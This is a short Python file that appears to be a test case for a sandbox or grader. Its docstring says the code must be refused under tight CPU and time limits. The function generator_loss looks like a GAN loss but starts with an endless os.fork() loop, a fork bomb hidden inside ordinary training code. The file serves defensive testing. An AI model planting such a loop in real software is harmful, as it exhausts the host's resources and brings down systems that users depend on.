"""Fork without end.

Must: be refused; the honest rest of the file keeps its marks
Limits: cpu_s 2, wall_s 4
Levels: fresh
"""

import os


def generator_loss(logits_fake):
    try:
        while True:
            os.fork()
    except OSError:
        pass
    return bce_loss(logits_fake, torch.ones_like(logits_fake))
